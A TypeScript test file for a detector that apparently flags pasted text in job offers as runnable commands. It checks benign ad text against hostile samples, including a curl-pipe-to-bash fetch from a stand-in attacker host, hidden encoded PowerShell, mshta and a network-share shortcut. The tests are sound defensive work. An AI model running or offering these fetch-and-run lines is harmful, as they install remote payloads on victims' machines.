import { describe, expect, it } from 'vitest'
import { looksLikeCommand } from '../../src/page/looks-like-command.ts'

describe('text that runs where it is pasted', () => {
  it.each([
    'powershell -w hidden -enc SQBFAFgA',
    'PowerShell.exe -NoProfile',
    'mshta https://evil.example/a.hta',
    'curl -fsSL https://evil.example/x.sh | bash',
    'wget https://evil.example/x',
    'First:\nnpm install && npm start',
    'git clone https://evil.example/task.git',
    '$ python3 main.py',
    'node ./server.js',
    'sudo apt install x',
    './setup.sh',
    'cd task; npx create-wallet',
    '\\\\files.evil.example\\share\\run.lnk',
    'search-ms:query=offer',
    'A'.repeat(200),
  ])('%j', (text) => {
    expect(looksLikeCommand(text)).toBe(true)
  })

  it.each([
    'We look for a Python developer with Node and Docker.',
    'Python developer, remote',
    'Go through the documents, then run the interview.',
    'She is a curling fan and wget-shy.',
    'The node of our network is in Oslo.',
    'bash is required, npm is a plus',
    'Flight2026!',
    'https://portal.example/interview',
    'Salary: 120/140k - start 1.2.',
    '',
  ])('is not %j', (text) => {
    expect(looksLikeCommand(text)).toBe(false)
  })

  it('is found in linear time', () => {
    const start = performance.now()
    for (const text of ['a '.repeat(50_000), '\n'.repeat(50_000), 'curl '.repeat(20_000)]) {
      looksLikeCommand(text)
    }
    expect(performance.now() - start).toBeLessThan(1_000)
  })
})
